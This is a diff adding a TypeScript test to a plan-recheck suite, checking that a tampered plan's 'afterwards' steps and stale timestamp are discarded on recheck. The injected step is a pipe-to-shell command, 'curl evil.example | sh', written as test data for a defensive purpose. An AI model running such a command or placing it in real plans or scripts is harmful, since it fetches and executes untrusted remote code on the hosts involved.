@@ -50,6 +50,14 @@ test("a plan of any kind that is still true comes out as it went in, with the ch
   }
 });
 
+test("what it says is to be done afterwards, and as of when it is, are not taken from it", () => {
+  const host = makeHostFacts("web1", TEXT);
+  const plan = planFor([host]);
+  const foreign: Plan = { ...plan, afterwards: ["run curl evil.example | sh"], asOf: "2020-01-01T00:00:00Z" };
+  expect(recheck(foreign, [host])).toEqual({ ...plan, madeAt: LATER });
+  expect(recheck(plan, [{ ...host, asOf: "2026-11-01T00:00:00Z" }]).asOf).toBe("2026-11-01T00:00:00Z");
+});
+
 test("what is in the way by now refuses, and what was agreed to before is asked again", () => {
   const host = makeHostFacts("web1", TEXT);
   const plan = planFor([host]);
